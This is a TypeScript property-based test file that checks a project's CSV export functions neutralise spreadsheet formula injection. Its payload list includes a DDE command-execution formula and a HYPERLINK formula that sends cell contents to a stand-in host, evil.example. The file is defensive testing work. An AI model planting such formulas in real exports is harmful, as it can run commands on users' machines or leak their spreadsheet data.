import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvLine } from '../api/csv-line.ts';
import { chartCsv } from '../dashboard/src/lib/chart/csv.ts';
import type { ChartData } from '../dashboard/src/lib/chart/data.ts';

/** Row "CSV injection": what a visitor said is text in a spreadsheet too. Every CSV of ours is written by one of these two. */

const FORMULA = /^[=+\-@\t\r]/;
const PAYLOADS = [
  '=cmd|"/C calc"!A0',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("https://evil.example?"&A1)',
  '="a\n=b"',
  '-',
  '=,"',
];
const said = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: 'binary' })).map((parts) => parts.join('')),
  fc.string(),
);

function read(text: string): string[][] {
  return parse(text, { relax_column_count: true, record_delimiter: '\r\n' }) as string[][];
}

test('no cell of the API’s exports begins a formula, and none is lost', () => {
  fc.assert(
    fc.property(fc.array(said, { minLength: 1, maxLength: 5 }), (cells) => {
      const [row = []] = read(csvLine(['first', ...cells]));
      expect(row.slice(1).filter((cell) => FORMULA.test(cell))).toEqual([]);
      expect(row.slice(1)).toEqual(cells.map((cell) => (FORMULA.test(cell) ? `'${cell}` : cell)));
    }),
  );
});

test('nor one of a chart’s', () => {
  fc.assert(
    fc.property(said, said, (title, label) => {
      const data = { points: [{ title }], series: [{ label, values: [-1], comparison: [-2] }] } as unknown as ChartData;
      const cells = read(chartCsv(data)).flat();
      expect(cells.filter((cell) => FORMULA.test(cell) && !/^-[12]$/.test(cell))).toEqual([]);
      expect(cells).toContain(FORMULA.test(title) ? `'${title}` : title);
    }),
  );
});

test('a negative figure is still a figure', () => {
  expect(csvLine([-1.5, '-1.5'])).toBe("-1.5,'-1.5\r\n");
});
